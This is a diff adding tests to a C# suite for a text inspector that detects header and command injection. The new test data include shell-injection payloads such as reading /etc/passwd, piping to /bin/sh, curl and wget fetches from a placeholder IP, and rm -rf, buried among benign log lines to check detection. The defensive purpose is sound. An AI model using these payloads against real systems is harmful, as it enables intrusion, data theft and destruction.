@@ -196,6 +196,9 @@ public sealed class ScreenTests(ITestOutputHelper output) : IDisposable
     [InlineData("# A heading\nand then a line of words\n", false)]
     [InlineData("# A heading\nthen a line of words -- and more of them\r\n\r\nit", true)]
     [InlineData("Dear all,\nthe second line of a text, and the third\nof it", true)]
+    [InlineData("From: Ann of the example\r\nContent-Type: text/plain and what else there is of a message, which is longer than any parameter that a header would be broken out of, for that is what is looked for: a value of a few words, and a line break behind them, and the header that a program then sends to somebody else", true)]
+    [InlineData("^\\d{3}-\\w+\\s*$ or a path of C:\\data\\x and of it \\section", true)]
+    [InlineData("x=\\nid", false)]
     [InlineData("a line\nBcc: x and what else there is of it in that line", false)]
     [InlineData("a line of it and more\r\nset-cookie: x and what else there is", false)]
     [InlineData("a line of it and more\nand then we fetch what there is to have", false)]
@@ -215,6 +218,33 @@ public sealed class ScreenTests(ITestOutputHelper output) : IDisposable
                 byte[] padded = [.. Encoding.UTF8.GetBytes(text + behind), .. new byte[Clean.Behind]];
                 Inspector.Screened.Quick.IsClean(padded.AsSpan(0, padded.Length - Clean.Behind)).ShouldBe(clean, $"{width} {text}{behind}");
             }
+        }
+    }
+
+    /// <summary>Of places that say no more than was said before the rest is not read; a place that says more is.</summary>
+    [Theory]
+    [InlineData("; cat /etc/passwd")]
+    [InlineData("| /bin/sh")]
+    [InlineData("\n/usr/bin/id -a")]
+    [InlineData("\nc'a't x")]
+    [InlineData(" && curl http://198.51.100.7/x")]
+    [InlineData("; rm -rf /tmp/x")]
+    [InlineData(" `wget -q http://198.51.100.7/x`")]
+    public void A_command_among_many_that_say_little_counts(string command)
+    {
+        foreach (var (line, from) in new[] { ("\n    at Object.read (/srv/a.js:1:2)", 0.4), ("\nThen one uses `cat x` or\ncurl of it | sort && make test", 0.6) })
+        {
+            var many = string.Concat(Enumerable.Repeat(line, 40));
+            MissedBy(many + command + many).ShouldBeNull();
+            double Strongest(string text)
+            {
+                var judge = new Inspector.Judge(InspectionOptions.Default, screen: null);
+                judge.Find(new EventTexts(64), -1, text);
+                return judge.Signals.Where(s => s.Detector == "command-injection").Max(s => s.Confidence);
+            }
+
+            Strongest(many).ShouldBe(from);
+            Strongest(many + command + many).ShouldBeGreaterThanOrEqualTo(0.6);
         }
     }
 
